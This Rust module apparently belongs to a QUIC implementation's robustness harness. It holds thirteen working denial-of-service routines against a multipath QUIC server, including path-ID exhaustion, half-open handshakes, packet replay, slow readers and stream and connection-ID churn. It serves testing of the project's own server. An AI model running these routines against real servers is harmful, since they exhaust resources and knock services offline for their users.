//! The ways in which a server was brought down, and some more: each sends until the attacker's time is over.

use std::io;
use std::time::Duration;

use super::attacker::{Attacker, Wire};
use crate::params::{Params, id};
use crate::peer::{Sealing, Space};
use crate::wire::{Frame, payload};

/// An attack: what it is called, what it does, and its code.
pub type Attack = (
    &'static str,
    &'static str,
    fn(&mut Attacker) -> io::Result<()>,
);

/// All attacks.
pub const ATTACKS: &[Attack] = &[
    (
        "path-ids",
        "uses up path IDs as fast as the server allows them",
        path_ids,
    ),
    (
        "half-open",
        "begins handshakes, and keeps them open with small packets",
        half_open,
    ),
    (
        "handshakes",
        "ClientHellos, answering each Retry",
        handshakes,
    ),
    (
        "connections",
        "completes connections, and leaves each for the next",
        connections,
    ),
    (
        "replay",
        "one packet below all that is remembered, again and again",
        replay,
    ),
    (
        "slow-readers",
        "asks for much and takes nothing",
        slow_readers,
    ),
    ("sparse", "one byte in every block of every stream", sparse),
    ("challenges", "PATH_CHALLENGE without end", challenges),
    ("moves", "asks for much, moves twice, falls silent", moves),
    (
        "late-acks",
        "holds connections open with late acknowledgements",
        late_acks,
    ),
    (
        "inbox",
        "datagrams as small as they can be to connections that are there",
        inbox,
    ),
    ("churn", "opens and resets streams as fast as it may", churn),
    (
        "cids",
        "issues and retires connection IDs without end",
        cids,
    ),
];

pub(super) fn multipath() -> Params {
    Params::generous(Some(7))
}

/// Connects until it works, or the time is over.
fn connected(attacker: &mut Attacker, params: &Params) -> io::Result<Option<Wire>> {
    while !attacker.is_over() {
        if let Some(wire) = attacker.connected(params.clone())? {
            return Ok(Some(wire));
        }
    }
    Ok(None)
}

fn path_ids(attacker: &mut Attacker) -> io::Result<()> {
    'connections: while let Some(mut wire) = connected(attacker, &multipath())? {
        let mut used = 0;
        attacker.frames(&mut wire, &[Frame::MaxPathId((1 << 32) - 1)]);
        while !attacker.is_over() {
            let limit = wire.peer.their_max_path_id.unwrap_or(0);
            let mut frames = Vec::new();
            while used < limit && frames.len() < 100 {
                used += 1;
                frames.push(Frame::PathAbandon {
                    path: used,
                    code: 0,
                });
            }
            if frames.is_empty() {
                // What makes the server look for IDs to issue, as long as there are none to abandon.
                for path in 0..8 {
                    frames.push(Frame::PathCidsBlocked {
                        path: used.saturating_sub(path),
                        next: 0,
                    });
                    frames.push(Frame::MaxPathId(
                        (1 << 31) + u64::from(attacker.datagrams as u32),
                    ));
                }
            }
            attacker.frames(&mut wire, &frames);
            attacker.pump(&mut wire);
            attacker.acknowledge(&mut wire);
            if wire.peer.close.is_some() {
                continue 'connections;
            }
        }
    }
    Ok(())
}

fn half_open(attacker: &mut Attacker) -> io::Result<()> {
    let mut open: Vec<Wire> = Vec::new();
    let mut again = Duration::from_secs(5);
    while !attacker.is_over() {
        let mut wire = attacker.client(multipath())?;
        attacker.flight(&mut wire);
        // The byte that makes a receiver hold the gap before it.
        let far = [
            Frame::Crypto {
                offset: 65_534,
                data: vec![1],
            },
            Frame::Padding(1150),
        ];
        if let Some(datagram) = wire.peer.seal(Space::Initial, &far) {
            attacker.send(&wire.socket, &datagram);
        }
        open.push(wire);
        if open.len() > 400 {
            // Not more sockets than a process may have; the server does not see that they are gone.
            open.drain(..100);
        }
        if attacker.elapsed() > again {
            again += Duration::from_secs(5);
            for wire in &mut open {
                if let Some(datagram) = wire.peer.seal(Space::Initial, &[Frame::Ping]) {
                    attacker.send(&wire.socket, &datagram);
                }
            }
        }
    }
    Ok(())
}

fn handshakes(attacker: &mut Attacker) -> io::Result<()> {
    let mut waiting: Vec<Wire> = Vec::new();
    while !attacker.is_over() {
        let mut wire = attacker.client(multipath())?;
        attacker.flight(&mut wire);
        waiting.push(wire);
        if waiting.len() > 50 {
            let mut oldest = waiting.remove(0);
            attacker.pump(&mut oldest);
            if oldest.peer.retries == 1 {
                attacker.flight(&mut oldest);
            }
        }
    }
    Ok(())
}

/// Each is left to its idle timeout.
fn connections(attacker: &mut Attacker) -> io::Result<()> {
    let mut left: Vec<Wire> = Vec::new();
    while let Some(wire) = connected(attacker, &multipath())? {
        left.push(wire);
        if left.len() > 400 {
            // Not more sockets than a process may have.
            left.drain(..100);
        }
    }
    Ok(())
}

fn replay(attacker: &mut Attacker) -> io::Result<()> {
    'connections: while let Some(mut wire) = connected(attacker, &multipath())? {
        let first = wire.peer.next_number(Space::Data(0));
        let frames: Vec<_> = (0..100).map(|n| Frame::MaxData((1 << 41) + n)).collect();
        let Some(old) = wire.peer.seal(Space::Data(0), &frames) else {
            continue;
        };
        for range in 1..=64 {
            let how = Sealing {
                number: Some(first + 2 * range),
                ..Sealing::default()
            };
            if let Some(datagram) =
                wire.peer
                    .seal_as(Space::Data(0), &payload(&[Frame::Ping]), &how)
            {
                attacker.send(&wire.socket, &datagram);
            }
        }
        while !attacker.is_over() {
            attacker.send(&wire.socket, &old);
            attacker.pump(&mut wire);
            if wire.peer.close.is_some() {
                continue 'connections;
            }
        }
    }
    Ok(())
}

/// A request for so many bytes on a stream.
pub(super) fn request(stream: u64, bytes: u32) -> Frame {
    Frame::Stream {
        id: 4 * stream,
        offset: 0,
        fin: true,
        data: bytes.to_be_bytes().to_vec(),
    }
}

fn slow_readers(attacker: &mut Attacker) -> io::Result<()> {
    let mut params = multipath();
    params.set(id::INITIAL_MAX_DATA, 1000);
    let mut open = Vec::new();
    while let Some(mut wire) = connected(attacker, &params)? {
        attacker.frames(&mut wire, &[request(0, 32 << 20), request(1, 32 << 20)]);
        open.push(wire);
        let at = open.len() - 1;
        attacker.pause(Duration::from_millis(5), open.get_mut(at));
        for wire in &mut open {
            attacker.pump(wire);
            attacker.acknowledge(wire);
        }
        if open.len() > 300 {
            open.remove(0);
        }
    }
    Ok(())
}

fn sparse(attacker: &mut Attacker) -> io::Result<()> {
    let mut open = Vec::new();
    while let Some(mut wire) = connected(attacker, &multipath())? {
        let limit = wire
            .peer
            .their_params
            .get(id::INITIAL_MAX_STREAM_DATA_BIDI_REMOTE)
            .unwrap_or(0);
        let whole = wire
            .peer
            .their_params
            .get(id::INITIAL_MAX_DATA)
            .unwrap_or(0);
        let mut spent = 0;
        'streams: for stream in 0..100 {
            let mut frames = Vec::new();
            let mut offset = 16_383;
            while offset < limit {
                frames.push(Frame::Stream {
                    id: 4 * stream,
                    offset,
                    fin: false,
                    data: vec![1],
                });
                offset += 16_384;
                if frames.len() == 100 {
                    attacker.frames(&mut wire, &std::mem::take(&mut frames));
                }
            }
            attacker.frames(&mut wire, &frames);
            spent += limit;
            attacker.pump(&mut wire);
            if spent + limit > whole || attacker.is_over() || wire.peer.close.is_some() {
                break 'streams;
            }
        }
        open.push(wire);
        if open.len() > 300 {
            open.remove(0);
        }
    }
    Ok(())
}

fn challenges(attacker: &mut Attacker) -> io::Result<()> {
    while let Some(mut wire) = connected(attacker, &multipath())? {
        let mut number = 0u64;
        while !attacker.is_over() && wire.peer.close.is_none() {
            number += 1;
            attacker.frames(&mut wire, &[Frame::PathChallenge(number.to_be_bytes())]);
            attacker.pump(&mut wire);
            if number.is_multiple_of(50) {
                attacker.acknowledge(&mut wire);
            }
        }
    }
    Ok(())
}

fn moves(attacker: &mut Attacker) -> io::Result<()> {
    while let Some(mut wire) = connected(attacker, &Params::generous(None))? {
        let spare: Vec<_> = (1..4).map(|seq| wire.peer.issue(0, seq)).collect();
        attacker.frames(&mut wire, &spare);
        attacker.frames(&mut wire, &[request(0, 16 << 20)]);
        for _ in 0..2 {
            attacker.moved(&mut wire)?;
            attacker.frames(&mut wire, &[Frame::Ping]);
            attacker.pause(Duration::from_millis(5), Some(&mut wire));
        }
    }
    Ok(())
}

fn late_acks(attacker: &mut Attacker) -> io::Result<()> {
    let mut open: Vec<(Duration, Wire)> = Vec::new();
    while let Some(mut wire) = connected(attacker, &multipath())? {
        attacker.frames(&mut wire, &[request(0, 64 << 10)]);
        open.push((attacker.elapsed(), wire));
        let now = attacker.elapsed();
        for (since, wire) in &mut open {
            if now - *since > Duration::from_secs(9) {
                *since = now;
                attacker.pump(wire);
                attacker.acknowledge(wire);
            }
        }
        open.retain(|(_, wire)| wire.peer.close.is_none());
        if open.len() > 400 {
            open.remove(0);
        }
    }
    Ok(())
}

fn inbox(attacker: &mut Attacker) -> io::Result<()> {
    while let Some(mut wire) = connected(attacker, &multipath())? {
        let Some(dcid) = wire.peer.dcid(0).map(|cid| cid.cid.clone()) else {
            continue;
        };
        let mut datagram = vec![0x40];
        datagram.extend_from_slice(&dcid);
        let mut count = 0;
        while !attacker.is_over() && count < 20_000 {
            count += 1;
            attacker.send(&wire.socket, &datagram);
        }
        attacker.pump(&mut wire);
    }
    Ok(())
}

fn churn(attacker: &mut Attacker) -> io::Result<()> {
    'connections: while let Some(mut wire) = connected(attacker, &multipath())? {
        let (mut next, mut allowed) = (
            0,
            wire.peer
                .their_params
                .get(id::INITIAL_MAX_STREAMS_BIDI)
                .unwrap_or(0),
        );
        while !attacker.is_over() {
            let mut frames = Vec::new();
            while next < allowed && frames.len() < 120 {
                frames.push(request(next, 1 << 20));
                frames.push(Frame::StopSending {
                    id: 4 * next,
                    code: 1,
                });
                next += 1;
            }
            if frames.is_empty() {
                attacker.pause(Duration::from_millis(2), None);
            } else {
                attacker.frames(&mut wire, &frames);
            }
            for frame in attacker.pump(&mut wire) {
                if let Frame::MaxStreams { uni: false, max } = frame {
                    allowed = allowed.max(max);
                }
            }
            attacker.acknowledge(&mut wire);
            if wire.peer.close.is_some() {
                continue 'connections;
            }
        }
    }
    Ok(())
}

fn cids(attacker: &mut Attacker) -> io::Result<()> {
    while let Some(mut wire) = connected(attacker, &multipath())? {
        let mut seq = 1;
        while !attacker.is_over() && wire.peer.close.is_none() {
            let mut frames = Vec::new();
            for _ in 0..20 {
                seq += 1;
                let mut frame = wire.peer.issue(0, seq);
                if let Frame::NewCid {
                    retire_prior_to, ..
                } = &mut frame
                {
                    *retire_prior_to = u64::from(seq);
                }
                frames.push(frame);
            }
            attacker.frames(&mut wire, &frames);
            attacker.pause(Duration::from_millis(1), Some(&mut wire));
            if seq % 80 == 1 {
                attacker.acknowledge(&mut wire);
            }
        }
    }
    Ok(())
}
